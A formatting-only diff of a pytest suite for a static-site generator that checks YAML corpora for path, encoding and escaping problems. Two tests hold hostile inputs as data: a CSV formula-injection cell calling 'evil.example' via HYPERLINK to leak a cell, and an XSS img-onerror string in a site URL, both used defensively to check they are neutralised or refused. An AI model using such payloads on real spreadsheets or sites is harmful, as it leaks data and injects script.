@@ -4,11 +4,10 @@ from __future__ import annotations
 
 import os
 import re
+from pathlib import Path
 
 import pytest
 import yaml
-from pathlib import Path
-
 from bs4 import BeautifulSoup, Tag
 
 from generator.pipeline import build_pages, check
@@ -78,8 +77,11 @@ def test_a_huge_text_is_refused_too(tmp_path: Path) -> None:
 
 def test_bom_and_crlf_are_handled_and_quotes_keep_their_exact_span(tmp_path: Path) -> None:
     corpus = copy_corpus(MINI, tmp_path / "seeds")
-    for path in [corpus / "parties.yaml", corpus / "documents" / "ridge-clash.yaml",
-                 corpus / "documents" / "ridge-clash.txt"]:
+    for path in [
+        corpus / "parties.yaml",
+        corpus / "documents" / "ridge-clash.yaml",
+        corpus / "documents" / "ridge-clash.txt",
+    ]:
         data = path.read_bytes().replace(b"\n", b"\r\n")
         path.write_bytes(b"\xef\xbb\xbf" + data)
     built = build_pages(corpus, corpus)
@@ -106,6 +108,7 @@ def test_a_hard_linked_text_is_the_file_itself_and_git_cannot_carry_the_link(tmp
     the file itself, what the work tree shows is what is read, and git stores its bytes, so a
     clone (a pull request, CI) holds a plain file; a symbolic link, which git does carry, is refused."""
     import subprocess
+
     corpus = copy_corpus(MINI, tmp_path / "seeds")
     elsewhere = tmp_path / "elsewhere.txt"
     text = corpus / "documents" / "ridge-clash.txt"
@@ -133,7 +136,8 @@ def test_a_seed_folder_that_is_a_link_is_not_followed(tmp_path: Path) -> None:
         link.symlink_to(target, target_is_directory=True)
         problems = check(link, tmp_path).problems
         assert [(p.rule, p.message) for p in problems] == [
-            ("unsafe-path", f"the seed folder '{name}' is a symbolic link, and links are not followed")]
+            ("unsafe-path", f"the seed folder '{name}' is a symbolic link, and links are not followed")
+        ]
 
 
 def test_stray_and_orphan_files_are_reported_not_ignored(tmp_path: Path) -> None:
@@ -143,8 +147,11 @@ def test_stray_and_orphan_files_are_reported_not_ignored(tmp_path: Path) -> None
     (corpus / "topics" / "notes.md").write_text("# notes\n", encoding="utf-8")
     (corpus / "documents" / ".DS_Store").write_bytes(b"\0")
     problems = {(p.path, p.rule): p for p in check(corpus, corpus).problems}
-    assert set(problems) == {("partys.yaml", "unexpected-file"), ("documents/forgotten.txt", "orphan-text"),
-                             ("topics/notes.md", "unexpected-file")}
+    assert set(problems) == {
+        ("partys.yaml", "unexpected-file"),
+        ("documents/forgotten.txt", "orphan-text"),
+        ("topics/notes.md", "unexpected-file"),
+    }
     assert problems[("partys.yaml", "unexpected-file")].hint == "did you mean 'parties.yaml'?"
 
 
@@ -159,7 +166,10 @@ def test_file_names_differing_only_in_case_are_reported(tmp_path: Path) -> None:
     corpus = copy_corpus(MINI, tmp_path / "seeds")
     (corpus / "documents" / "Ridge-Clash.txt").write_text("Another text.\n", encoding="utf-8")
     rules = {(p.path, p.rule) for p in check(corpus, corpus).problems}
-    assert ("documents/ridge-clash.txt", "case-collision") in rules or ("documents/Ridge-Clash.txt", "case-collision") in rules
+    assert ("documents/ridge-clash.txt", "case-collision") in rules or (
+        "documents/Ridge-Clash.txt",
+        "case-collision",
+    ) in rules
 
 
 def test_a_linked_folder_is_not_followed(tmp_path: Path) -> None:
@@ -198,8 +208,10 @@ def test_a_pipe_is_refused_without_being_read(tmp_path: Path) -> None:
 def test_many_names_starting_with_digits_and_accents_make_one_page_each(tmp_path: Path) -> None:
     corpus = copy_corpus(MINI, tmp_path / "seeds")
     names = [f"{prefix} party {n}" for n in range(120) for prefix in ("1st", "Éire", "Zulu")]
-    extra = "".join(f"  - id: extra-{n}\n    name: {name}\n    kind: other\n    description: A party.\n"
-                    for n, name in enumerate(names))
+    extra = "".join(
+        f"  - id: extra-{n}\n    name: {name}\n    kind: other\n    description: A party.\n"
+        for n, name in enumerate(names)
+    )
     with (corpus / "parties.yaml").open("a", encoding="utf-8") as registry:
         registry.write(extra)
     built = build_pages(corpus, corpus)
@@ -230,10 +242,11 @@ def _long_chain(corpus: Path, hops: int, drew_on: str) -> None:
     meta = corpus / "documents" / "ridge-clash.yaml"
     text = meta.read_text(encoding="utf-8")
     head, _, rest = text.partition("chain:\n")
-    claims = rest[rest.index("claims:"):].replace("via: [wire-one]", f"via: [{held}]")
+    claims = rest[rest.index("claims:") :].replace("via: [wire-one]", f"via: [{held}]")
     claims = claims.replace("    claimant: beta\n", f"    claimant: beta\n    via: [{held}]\n")
-    meta.write_text(head.replace("outlet: site-two", f"outlet: {held}") + "chain:\n" + "".join(chain) + claims,
-                    encoding="utf-8")
+    meta.write_text(
+        head.replace("outlet: site-two", f"outlet: {held}") + "chain:\n" + "".join(chain) + claims, encoding="utf-8"
+    )
 
 
 def test_a_thousand_hops_drawing_the_wrong_way_are_reported_not_a_crash(tmp_path: Path) -> None:
@@ -254,12 +267,14 @@ def test_a_thousand_hops_each_drawing_on_every_earlier_one_validate(tmp_path: Pa
 
 def test_a_lone_surrogate_is_a_syntax_problem_with_either_parser(tmp_path: Path, monkeypatch) -> None:
     from generator import yaml_reader
+
     for fast in (yaml_reader._FAST_LOADER, None):
         monkeypatch.setattr(yaml_reader, "_FAST_LOADER", fast)
         corpus = copy_corpus(MINI, tmp_path / f"seeds-{fast is None}")
         outlets = corpus / "outlets.yaml"
-        outlets.write_text(outlets.read_text(encoding="utf-8").replace("name: Wire One", 'name: "Wire \\ud800One"'),
-                           encoding="utf-8")
+        outlets.write_text(
+            outlets.read_text(encoding="utf-8").replace("name: Wire One", 'name: "Wire \\ud800One"'), encoding="utf-8"
+        )
         rules = {(p.path, p.rule) for p in check(corpus, corpus).problems}
         assert rules == {("outlets.yaml", "yaml-syntax")}
 
@@ -267,8 +282,13 @@ def test_a_lone_surrogate_is_a_syntax_problem_with_either_parser(tmp_path: Path,
 def test_an_invalid_escape_is_reported_at_the_escape_with_either_parser(tmp_path: Path, monkeypatch) -> None:
     from generator import yaml_reader
     from generator.problems import Problems
+
     cases = [  # (value, line and column of the escape, what the message or hint says)
-        ('"C:\\data\\x"', (1, 7), ['\'\\d\' in this double-quoted value is invalid', '("C:\\\\data\\\\x")', "'C:\\data\\x'"]),
+        (
+            '"C:\\data\\x"',
+            (1, 7),
+            ["'\\d' in this double-quoted value is invalid", '("C:\\\\data\\\\x")', "'C:\\data\\x'"],
+        ),
         ('"\\x4 and"', (1, 5), ["\\x takes 2 hexadecimal digits"]),
         ('"\\ud83d\\ude00"', (1, 5), ["half of a surrogate pair", "\\U0001F600"]),
         ('"say \\"hi\\" \\q"', (1, 16), ["'\\q'", '("say \\"hi\\" \\\\q")']),
@@ -290,26 +310,36 @@ def test_an_invalid_escape_is_reported_at_the_escape_with_either_parser(tmp_path
 def test_no_csv_cell_can_start_a_formula_whatever_the_spreadsheet_splits_on(tmp_path: Path) -> None:
     import csv
     import io
+
     corpus = copy_corpus(MINI, tmp_path / "seeds")
     document = corpus / "documents" / "ridge-clash.yaml"
     document.write_text(
         document.read_text(encoding="utf-8")
-        .replace("paraphrase: Alpha's government says two soldiers were hurt.",
-                 "paraphrase: 'Two hurt;=HYPERLINK(\"http://evil.example/?\"&A1),+1\t@SUM(A1)'")
+        .replace(
+            "paraphrase: Alpha's government says two soldiers were hurt.",
+            "paraphrase: 'Two hurt;=HYPERLINK(\"http://evil.example/?\"&A1),+1\t@SUM(A1)'",
+        )
         .replace("figure: {value: 2,", "figure: {value: -3,"),
         encoding="utf-8",
     )
     parties = corpus / "parties.yaml"
-    parties.write_text(parties.read_text(encoding="utf-8").replace(
-        "aliases: [government in Alphaville]", "aliases: [government in Alphaville, \"-Alphaville cabinet\"]"),
-        encoding="utf-8")
+    parties.write_text(
+        parties.read_text(encoding="utf-8").replace(
+            "aliases: [government in Alphaville]", 'aliases: [government in Alphaville, "-Alphaville cabinet"]'
+        ),
+        encoding="utf-8",
+    )
     built = build_pages(corpus, corpus)
     assert built.problems == []
     tables = {p.path: p.text for p in built.pages if p.path.endswith(".csv")}
     assert len(tables) == 7
-    for name, text in tables.items():
-        cells = [cell for separator in (",", ";", "\t")  # what spreadsheets split on, by locale or by guess
-                 for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
+    for text in tables.values():
+        cells = [
+            cell
+            for separator in (",", ";", "\t")  # what spreadsheets split on, by locale or by guess
+            for row in csv.reader(io.StringIO(text), delimiter=separator)
+            for cell in row
+        ]
         cells += re.split(r"[,;\t\r\n]", text)  # and a spreadsheet that honours no quotes at all
         for cell in cells:
             if cell.lstrip(' "')[:1] in ("=", "+", "-", "@"):
@@ -324,8 +354,10 @@ def test_no_csv_cell_can_start_a_formula_whatever_the_spreadsheet_splits_on(tmp_
 def test_an_address_in_capitals_is_published_in_lowercase(tmp_path: Path) -> None:
     corpus = copy_corpus(MINI, tmp_path / "seeds")
     outlets = corpus / "outlets.yaml"
-    outlets.write_text(outlets.read_text(encoding="utf-8").replace("https://wire.example.org/", "HTTPS://wire.example.org/"),
-                       encoding="utf-8")
+    outlets.write_text(
+        outlets.read_text(encoding="utf-8").replace("https://wire.example.org/", "HTTPS://wire.example.org/"),
+        encoding="utf-8",
+    )
     built = build_pages(corpus, corpus)
     assert built.problems == []
     page = next(p for p in built.pages if p.path == "outlets/wire-one.md")
@@ -334,6 +366,7 @@ def test_an_address_in_capitals_is_published_in_lowercase(tmp_path: Path) -> Non
 
 def test_prose_headings_of_level_one_and_two_stay_text_however_written() -> None:
     from generator.render.markup import prose
+
     for source in ("Title\n=====", "Title\n-----\n\nmore", "> # Quoted", "- ## Listed", "# Hash", "## Hash"):
         assert not re.search(r"<h[12]", prose(source)), source
     assert "<h3>Kept</h3>" in prose("### Kept")
@@ -385,8 +418,11 @@ def test_a_site_url_with_markup_stops_the_build_before_any_page_is_written(tmp_p
     config = mkdocs_config(MINI, tmp_path / "build")
     hostile = 'https://example.org/"><img src=x onerror=alert(1)>'
     result = subprocess.run(
-        [sys.executable, "-m", "mkdocs", "build", "--strict", "--config-file", str(config)], capture_output=True,
-        text=True, cwd=ROOT, env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin", "SITE_URL": hostile},
+        [sys.executable, "-m", "mkdocs", "build", "--strict", "--config-file", str(config)],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin", "SITE_URL": hostile},
     )
     assert result.returncode != 0
     assert "is not a plain http(s) address" in result.stdout + result.stderr
